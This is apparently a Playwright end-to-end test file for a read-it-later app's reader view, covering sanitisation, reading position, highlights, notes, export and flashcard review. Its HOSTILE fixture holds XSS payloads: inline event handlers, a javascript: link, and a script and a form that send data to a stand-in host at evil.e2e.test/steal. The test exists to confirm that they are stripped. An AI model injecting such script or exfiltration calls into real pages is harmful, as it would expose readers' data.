import { createHash } from "node:crypto";
import { expect, test, type Page } from "@playwright/test";
import { selectInArticle, wordPoint } from "./article";
import { expectNoAxeViolations } from "./axe";
import { userIdOf, withDb } from "./db";
import { rowAction, signUp } from "./helpers";
import { expectFitsPhones, expectNoSidewaysScroll, useTheme } from "./layout";

// The reader view (issue 35, decision 055): /links/{id}/read shows the article the worker kept,
// sanitised on the server. Articles are seeded in SQL as the worker stores them (link_articles,
// and the pictures it copied in lead_images), so a hostile one can be stored as it is.

/** A 1×1 PNG: the copy of a picture we hold. */
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
const imageKey = (url: string) => createHash("sha256").update(url).digest("hex").slice(0, 32);

async function reader(page: Page) {
  const email = `reader-${Date.now()}-${Math.random().toString(36).slice(2, 8)}@example.com`;
  await signUp(page, email, "reader-password");
  await page.goto("/dashboard");
  const userId = await userIdOf(email);
  await withDb((client) => client.query("update users set email_confirmed = true where id = $1", [userId]));
  return userId;
}

/** A picture the worker copied, kept by its absolute address as the lead images are. */
async function keepPicture(url: string) {
  await withDb((client) => client.query("insert into lead_images (key, source_url, content_type, data) values ($1, $2, 'image/png', $3) on conflict (key) do nothing", [imageKey(url), url, PNG]));
}

/** A link as an enrichment leaves it; `html` goes in link_articles. */
async function seedArticle(userId: string, { title, html, text, minutes = 4, extractor = "readability" }: { title: string; html?: string; text?: string; minutes?: number; extractor?: string }) {
  const url = `https://reader.e2e.test/${Math.random().toString(36).slice(2)}`;
  return withDb(async (client) => {
    const { rows } = await client.query<{ id: string }>(
      `insert into links (user_id, url, normalized_url, status, title, content_text, reading_minutes, site_name, byline, extractor, enrichment_engine, enriched_at)
       values ($1, $2, $2, 'enriched', $3, $4, $5, 'Reader Test Times', 'A. Writer', $6, 'local/extractive-v1', now()) returning id`,
      [userId, url, title, text ?? "Some text.", minutes, extractor],
    );
    const id = rows[0]!.id;
    if (html) await client.query("insert into link_articles (link_id, html, base_url) values ($1, $2, $3)", [id, html, url]);
    return { id, url };
  });
}

const HOSTILE = `
  <h1 onclick="window.clicked = true">The harbour at night</h1>
  <script>window.pwned = true; fetch("https://evil.e2e.test/steal")</script>
  <style>body { display: none !important }</style>
  <p style="display:none" onmouseover="window.pwned = true">Text the page's CSS hid from its readers.</p>
  <p>A first paragraph with an <a href="javascript:window.pwned = true">evil link</a>, a <a href="/about">relative one</a> and <a href="https://elsewhere.e2e.test/page" target="_self">an outside one</a>.</p>
  <img src="x" onerror="window.pwned = true">
  <img src="https://tracker.e2e.test/pixel.gif" alt="a tracking pixel">
  <figure><img src="/pictures/harbour.png" alt="The harbour at dusk" width="640" height="480" srcset="https://cdn.e2e.test/big.png 2x"><figcaption>The harbour, as the ferry leaves.</figcaption></figure>
  <h2>What the pilots say</h2>
  <blockquote><p>The tide decides, not the timetable.</p></blockquote>
  <ol start="3"><li>Third, the ropes.</li><li>Fourth, the lights.</li></ol>
  <pre class="language-ts"><code class="language-ts">const tide: number = await table.next("${"very long line ".repeat(20)}");</code></pre>
  <table><caption>Crossings a day</caption><tr><th scope="col">Ferry</th><th scope="col">Crossings</th><th scope="col">First</th><th scope="col">Last</th><th scope="col">Notes</th></tr>
  <tr><td>Harbour Star</td><td>14</td><td>05:30</td><td>23:10</td><td>${"runs in every weather the harbour master allows ".repeat(3)}</td></tr></table>
  <iframe src="https://evil.e2e.test/frame"></iframe>
  <form action="https://evil.e2e.test/steal"><input name="password" aria-label="password"><button>Send</button></form>
  <div class="share-buttons">Share this everywhere</div>
  <p>The last paragraph.</p>`;

/** Every request the page makes to anything but our own server. */
function thirdPartyRequests(page: Page, baseURL: string): string[] {
  const ours = new URL(baseURL).origin;
  const seen: string[] = [];
  page.on("request", (request) => {
    const url = request.url();
    if (!url.startsWith(ours) && !url.startsWith("data:")) seen.push(url);
  });
  return seen;
}

for (const viewport of [
  { name: "phone", width: 390, height: 844 },
  { name: "desktop", width: 1280, height: 900 },
]) {
  test.describe(viewport.name, () => {
    test.use({ viewport: { width: viewport.width, height: viewport.height } });

    test("a hostile stored article renders with its structure, nothing executed and no third-party request, in both themes", async ({ page, baseURL }) => {
      const userId = await reader(page);
      const { id, url } = await seedArticle(userId, { title: "The harbour at night", html: HOSTILE });
      // The picture the worker copied (by its absolute address); the tracker's was never fetched.
      await keepPicture(new URL("/pictures/harbour.png", url).toString());

      const outside = thirdPartyRequests(page, baseURL!);
      const dialogs: string[] = [];
      page.on("dialog", (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const cdp = await page.context().newCDPSession(page);
      const cspIssues: string[] = [];
      cdp.on("Audits.issueAdded", ({ issue }) => {
        if (issue.code === "ContentSecurityPolicyIssue") cspIssues.push(JSON.stringify(issue.details.contentSecurityPolicyIssueDetails));
      });
      await cdp.send("Audits.enable");

      await useTheme(page, "light");
      await page.goto(`/links/${id}/read`, { waitUntil: "networkidle" });
      await expect(page.getByRole("heading", { level: 1, name: "The harbour at night" })).toBeVisible();
      const article = page.getByTestId("reader-article");

      // Nothing of the page's code survived or ran.
      expect(await article.locator("script, style, iframe, form, input, button, object, embed, svg").count()).toBe(0);
      const attributes = await article.locator("*").evaluateAll((elements) => elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")));
      expect(attributes).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { pwned?: boolean }).pwned)).toBeUndefined();
      // What the page hid is shown; what surrounds the article is not.
      await expect(article.getByText("Text the page's CSS hid from its readers.")).toBeVisible();
      await expect(article.getByText("Share this everywhere")).toHaveCount(0);
      await expect(page.getByTestId("reader")).toBeVisible();

      // Links open the original, in a new tab, without an opener or referrer; the script link has no address.
      const links = await article.locator("a[href]").evaluateAll((anchors) => anchors.map((a) => [a.getAttribute("href"), a.getAttribute("target"), a.getAttribute("rel")]));
      expect(links).toEqual([
        [new URL("/about", url).toString(), "_blank", "noopener noreferrer"],
        ["https://elsewhere.e2e.test/page", "_blank", "noopener noreferrer"],
      ]);
      // Only the picture we hold, from our own origin, and it loaded.
      const picture = article.getByRole("img", { name: "The harbour at dusk" });
      await expect(picture).toHaveAttribute("src", /^\/lead-images\/[0-9a-f]{32}$/);
      await expect.poll(() => picture.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
      expect(await article.locator("img").count()).toBe(1);

      // The article's structure: headings below the page's title, the list's own numbers, a quote,
      // a caption, code with its language, and a table scrolling inside its own box.
      await expect(article.getByRole("heading", { level: 2, name: "What the pilots say" })).toBeVisible();
      await expect(article.locator("ol")).toHaveAttribute("start", "3");
      await expect(article.locator("blockquote")).toContainText("The tide decides");
      await expect(article.locator("figcaption")).toHaveText("The harbour, as the ferry leaves.");
      await expect(article.locator("pre > code.language-ts")).toBeVisible();
      // Coloured by its language, in the theme's own palette (axe below checks the contrast).
      await expect(article.locator("pre > code.hljs .hljs-keyword").first()).toHaveText("const");
      await expect(article.getByRole("region", { name: "Table 1" })).toBeVisible();
      if (viewport.width < 400) await expectFitsPhones(page);
      else await expectNoSidewaysScroll(page);

      await expectNoAxeViolations(page);
      await useTheme(page, "dark");
      await page.reload({ waitUntil: "networkidle" });
      await expect(page.locator("html")).toHaveClass(/dark/);
      await expect(article.getByText("The last paragraph.")).toBeVisible();
      await expectNoAxeViolations(page, { colourOnly: true });

      expect(outside).toEqual([]);
      expect(cspIssues).toEqual([]);
      expect(dialogs).toEqual([]);
    });
  });
}

test("the reading position and settings are remembered; keys scroll and open the original", async ({ page, context }) => {
  const userId = await reader(page);
  const paragraphs = Array.from({ length: 80 }, (_, i) => `<p>Paragraph ${i + 1} of a long article about tides, ferries and the people who run them.</p>`).join("");
  const { id, url } = await seedArticle(userId, { title: "A long read", html: `<h2>Start</h2>${paragraphs}`, minutes: 10 });

  await page.goto(`/links/${id}/read`);
  const left = page.getByTestId("minutes-left");
  await expect(left).toHaveText("10 min left");
  await expect.poll(() => page.evaluate(() => Object.keys(document.querySelector("[data-testid=reader]")!).some((key) => key.startsWith("__react")))).toBe(true);

  // Space scrolls a screen down, Shift+Space back up.
  await page.locator("body").click({ position: { x: 2, y: 300 } });
  await page.keyboard.press("Space");
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(300);
  await page.keyboard.press("Shift+Space");
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBe(0);

  // Half way down: "5 min left", and the position is saved once the scrolling stops.
  const saved = page.waitForResponse(
    (response) => response.url().includes(`/api/links/${id}/reading-position`) && response.request().method() === "PUT" && Math.abs((response.request().postDataJSON() as { progress: number }).progress - 0.5) < 0.02,
  );
  await page.evaluate(() => window.scrollTo({ top: (document.documentElement.scrollHeight - window.innerHeight) / 2, behavior: "instant" }));
  expect((await saved).status()).toBe(200);
  await expect(left).toHaveText("5 min left");

  // Settings: a larger text size, remembered for the next visit.
  await page.getByText("Reading settings").click();
  const settingsSaved = page.waitForResponse((response) => response.url().endsWith("/api/preferences/reader") && response.request().method() === "PUT");
  await page.getByLabel("Text size").selectOption("large");
  expect((await settingsSaved).status()).toBe(200);

  await page.reload();
  await expect(page.locator("article[data-font]")).toHaveAttribute("data-font", "large");
  // Back at the same place (as a share of the page, which the same settings lay out the same).
  await expect
    .poll(() => page.evaluate(() => window.scrollY / (document.documentElement.scrollHeight - window.innerHeight)))
    .toBeGreaterThan(0.45);
  expect(await page.evaluate(() => window.scrollY / (document.documentElement.scrollHeight - window.innerHeight))).toBeLessThan(0.55);
  await expect(left).toHaveText("5 min left");

  // o opens the original in a new tab (answered here: the test's site does not exist).
  await context.route(`${url}*`, (route) => route.fulfill({ contentType: "text/html", body: "<title>The original</title>" }));
  const opened = context.waitForEvent("page");
  await page.keyboard.press("o");
  const tab = await opened;
  await expect.poll(() => tab.url()).toContain(url);
  await tab.close();

  // m marks it read and again unread (the library's read state, decision 056); reading to the end
  // marks it read once more.
  const readAt = async () => ((await (await page.request.get(`/api/links/${id}`)).json()) as { readAt: string | null }).readAt;
  expect(await readAt()).toBeNull();
  await page.keyboard.press("m");
  await expect(page.getByRole("button", { name: "Mark as unread" })).toBeVisible();
  expect(await readAt()).not.toBeNull();
  await page.keyboard.press("m");
  await expect(page.getByRole("button", { name: "Mark as read" })).toBeVisible();
  expect(await readAt()).toBeNull();
  await page.reload();
  await expect.poll(() => page.evaluate(() => Object.keys(document.querySelector("[data-testid=reader]")!).some((key) => key.startsWith("__react")))).toBe(true);
  await page.evaluate(() => window.scrollTo({ top: document.documentElement.scrollHeight, behavior: "instant" }));
  await expect(page.getByRole("button", { name: "Mark as unread" })).toBeVisible();
  expect(await readAt()).not.toBeNull();
});

test("a page kept as text, a page with nothing kept, another user's link, and the Read entry point", async ({ page }) => {
  const userId = await reader(page);
  const pdf = await seedArticle(userId, { title: "A paper", text: "Abstract of the paper.\n\n- one finding\n- another finding\n\nConclusions follow.", extractor: "pdf" });
  const empty = await seedArticle(userId, { title: "Nothing kept", text: "" });
  await withDb((client) => client.query("update links set content_text = null where id = $1", [empty.id]));

  await page.goto(`/links/${pdf.id}/read`);
  const article = page.getByTestId("reader-article");
  await expect(article.getByText("Abstract of the paper.")).toBeVisible();
  await expect(article.getByRole("listitem")).toHaveText(["one finding", "another finding"]);
  await expect(article.getByText("We kept this page as text only")).toBeVisible();

  await page.goto(`/links/${empty.id}/read`);
  await expect(page.getByTestId("reader-article")).toContainText("We could not keep this page's text");
  await expect(page.getByRole("link", { name: /Open the original/ })).toHaveAttribute("href", empty.url);

  // Another user's link is not found, as is no link at all.
  const otherUser = await withDb(async (client) => {
    const { rows } = await client.query<{ id: string }>("insert into users (email, password_hash) values ($1, 'not-a-hash') returning id", [`reader-other-${Date.now()}-${Math.random().toString(36).slice(2, 8)}@example.com`]);
    return rows[0]!.id;
  });
  const theirs = await seedArticle(otherUser, { title: "Not yours", html: "<p>Private words.</p>" });
  const response = await page.goto(`/links/${theirs.id}/read`);
  expect(response?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "This link is not in your library" })).toBeVisible();
  await expect(page.getByText("Private words.")).toHaveCount(0);

  // From the library: a row's ⋯ menu reads it.
  await page.goto("/dashboard");
  const row = page.getByTestId("link-row").filter({ hasText: "A paper" });
  await rowAction(row, "Read");
  await expect(page).toHaveURL(`/links/${pdf.id}/read`);
});

// Highlights and notes (decision 060): by mouse and by keyboard, kept through a re-extraction of the
// article (placed again by their quotes, or listed as not placed), found by search, exported.
const TIDES = `<h2>Tides</h2>
  <p>The tide decides, not the timetable. Ferries wait for the water.</p>
  <p>The second paragraph is about the harbour lights and the night crossings.</p>
  <p>The pilots know the harbour by heart, every rock and every buoy.</p>`;

test("highlights by mouse and by keyboard, with notes; kept through a re-extraction; searched and exported; both widths and themes", async ({ page }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  const userId = await reader(page);
  const { id } = await seedArticle(userId, { title: "Harbour notes", html: TIDES });
  await useTheme(page, "light");
  await page.goto(`/links/${id}/read`);
  await expect.poll(() => page.evaluate(() => Object.keys(document.querySelector("[data-testid=reader]")!).some((key) => key.startsWith("__react")))).toBe(true);
  const article = page.getByTestId("reader-article");

  // By mouse: double-click a word, then the toolbar's green.
  const word = await wordPoint(page, "timetable");
  await page.mouse.dblclick(word.x, word.y);
  const toolbar = page.getByRole("toolbar", { name: "Highlight the selection" });
  await expect(toolbar).toBeVisible();
  await expectNoAxeViolations(page);
  await toolbar.getByRole("button", { name: "Highlight green" }).click();
  await expect(article.locator("mark[data-colour=green]")).toHaveText("timetable");
  await expect(toolbar).toHaveCount(0);

  // By keyboard: h highlights the selection (yellow); n opens a note for another.
  await selectInArticle(page, "harbour lights");
  await page.keyboard.press("h");
  await expect(article.locator("mark[data-colour=yellow]")).toHaveText("harbour lights");
  await selectInArticle(page, "pilots know the harbour by heart");
  await page.keyboard.press("n");
  const editor = page.getByRole("dialog", { name: "Add a note" });
  await expect(editor).toBeVisible();
  await expect(editor.getByLabel("Note")).toBeFocused();
  await page.keyboard.type("Ask the zeppelin pilot too");
  await editor.getByRole("button", { name: "Save" }).press("Enter");
  await expect(editor).toBeHidden();
  const pilots = article.getByRole("button", { name: /pilots know the harbour by heart\. Note: Ask the zeppelin pilot too/ });
  await expect(pilots).toBeVisible();

  // The focused highlight: Enter edits it (colour), n too; Escape closes without saving.
  await pilots.focus();
  await page.keyboard.press("Enter");
  const edit = page.getByRole("dialog", { name: "Edit highlight" });
  await expect(edit).toBeVisible();
  await expect(edit.getByLabel("Note")).toHaveValue("Ask the zeppelin pilot too");
  await edit.getByRole("radio", { name: "Purple" }).check();
  await expectNoAxeViolations(page);
  await edit.getByRole("button", { name: "Save" }).click();
  await expect(edit).toBeHidden();
  await expect(article.locator("mark[data-colour=purple]")).toHaveText("pilots know the harbour by heart");
  // Deleting: the yellow one goes.
  await article.getByRole("button", { name: /harbour lights/ }).focus();
  await page.keyboard.press("n");
  await edit.getByRole("button", { name: "Delete highlight" }).click();
  await expect(article.locator("mark[data-colour=yellow]")).toHaveCount(0);
  // The highlight it was opened from is gone: the keyboard lands on the page's highlight list, not the page's start.
  await expect(page.getByRole("heading", { name: /^Highlights in this page/ })).toBeFocused();

  const list = page.getByTestId("highlight-list");
  await expect(list.getByRole("heading", { name: "Highlights in this page (2)" })).toBeVisible();

  // Re-extraction (the worker writes the article again): a new opening paragraph moves every
  // position, and the first paragraph is rewritten without "timetable". The pilots' highlight is
  // placed again by its quote; the other is listed, not lost.
  await withDb((client) =>
    client.query("update link_articles set html = $2 where link_id = $1", [
      id,
      `<p>An editor's note added at the top of the page.</p>${TIDES.replace("The tide decides, not the timetable.", "The tide decides everything.")}`,
    ]),
  );
  await page.reload();
  await expect(article.locator("mark[data-colour=purple]")).toHaveText("pilots know the harbour by heart");
  await expect(page.getByTestId("unplaced-highlights")).toContainText("timetable");
  await expect(list.getByRole("heading", { name: "Could not place (1)" })).toBeVisible();

  // Search: the library finds the link by the note, the highlights page finds the highlight.
  await page.goto("/dashboard?q=zeppelin");
  await expect(page.getByTestId("link-row").filter({ hasText: "Harbour notes" })).toBeVisible();
  await page.goto("/highlights");
  await page.getByLabel("Search highlights and notes").fill("zeppelin");
  await page.getByRole("button", { name: "Search" }).click();
  await expect(page).toHaveURL(/q=zeppelin/);
  const entries = page.getByTestId("highlight-entry");
  await expect(entries).toHaveCount(1);
  await expect(entries.first()).toContainText("Note: Ask the zeppelin pilot too");

  // Export: the library's JSON carries the highlights and their notes.
  const exported = (await (await page.request.get("/api/links/export?format=json")).json()) as { links: Array<{ id: string; highlights: Array<{ exact: string; note: string | null }> }> };
  expect(exported.links.find((link) => link.id === id)!.highlights.map((h) => [h.exact, h.note])).toEqual([
    ["timetable", null],
    ["pilots know the harbour by heart", "Ask the zeppelin pilot too"],
  ]);

  // The highlights page and the reader in both themes, at 1280 and 390 px.
  await expectNoSidewaysScroll(page);
  await expectNoAxeViolations(page);
  await useTheme(page, "dark");
  await page.reload();
  await expectNoAxeViolations(page, { colourOnly: true });
  await page.setViewportSize({ width: 390, height: 844 });
  await expectFitsPhones(page);
  await expectNoAxeViolations(page, { colourOnly: true });
  // Each entry opens the reader at its highlight.
  await entries.first().getByRole("link", { name: "Harbour notes" }).click();
  await expect(page).toHaveURL(new RegExp(`/links/${id}/read#highlight-`));
  await expect(article.locator("mark[data-colour=purple]")).toBeFocused();
  await expectFitsPhones(page);
  await expectNoAxeViolations(page, { colourOnly: true });
  await useTheme(page, "light");
  await page.reload();
  await expect(article.locator("mark[data-colour=purple]")).toBeVisible();
  await expectNoAxeViolations(page);

  // Keyboard only, nothing selected: j and k choose a passage (outlined, announced), h highlights it.
  await page.evaluate(() => window.scrollTo(0, 0));
  for (const key of ["j", "j", "j", "k", "j"]) await page.keyboard.press(key);
  const chosen = article.locator("[data-passage]");
  await expect(chosen).toHaveText("The tide decides everything. Ferries wait for the water.");
  await expect(page.getByText("Passage 3 of 5: h highlights it, n adds a note.")).toBeAttached();
  await expectNoAxeViolations(page, { colourOnly: true });
  await page.keyboard.press("h");
  await expect(article.locator("mark[data-colour=yellow]")).toHaveText("The tide decides everything. Ferries wait for the water.");
});

test("a card from a highlight is reviewed on /review with Space and 1–4, then summed up; both widths and themes", async ({ page, baseURL }) => {
  await page.setViewportSize({ width: 1280, height: 900 });
  const userId = await reader(page);
  await withDb((client) => client.query("update users set role = 'ProUser' where id = $1", [userId]));
  const { id } = await seedArticle(userId, { title: "Harbour notes", html: TIDES });
  const made = await page.request.post(`/api/links/${id}/highlights`, { headers: { Origin: baseURL! }, data: { exact: "harbour lights", prefix: "the ", suffix: " come on", start: 0, note: "At dusk" } });
  expect(made.status()).toBe(201);
  const card = await page.request.post("/api/cards", { headers: { Origin: baseURL! }, data: { from: "highlight", highlightId: ((await made.json()) as { id: string }).id } });
  expect(card.status()).toBe(201);

  await useTheme(page, "light");
  await page.goto("/review");
  const shown = page.getByTestId("review-card");
  await expect(shown).toContainText("the […] come on");
  await expect(shown).toContainText("Hint: At dusk");
  await expect.poll(() => page.evaluate(() => Object.keys(document.querySelector("[data-testid=review-card]")!).some((key) => key.startsWith("__react")))).toBe(true);
  await expectNoAxeViolations(page);
  await page.keyboard.press(" ");
  await expect(page.getByTestId("review-answer")).toHaveText("harbour lights");
  await expect(shown.getByRole("link", { name: "Open the source passage" })).toHaveAttribute("href", /#highlight-/);
  await expectNoAxeViolations(page);
  await page.keyboard.press("3");
  // Good on a new card is a learning step minutes away: it comes back in the session; Easy ends it.
  await expect(page.getByTestId("review-answer")).toHaveCount(0);
  await expect(shown).toContainText("the […] come on");
  await page.keyboard.press(" ");
  await expect(page.getByTestId("review-answer")).toHaveText("harbour lights");
  await page.keyboard.press("4");
  const summary = page.getByTestId("review-summary");
  await expect(summary).toContainText("Done: 1 card reviewed.");
  await expect(summary).toContainText("Good: 1");
  await expect(summary).toContainText("Easy: 1");

  await page.setViewportSize({ width: 390, height: 800 });
  await useTheme(page, "dark");
  await page.goto("/review");
  await expect(page.getByTestId("review-summary")).toContainText("Nothing is due");
  await expectNoSidewaysScroll(page);
  await expectNoAxeViolations(page, { colourOnly: true });
});
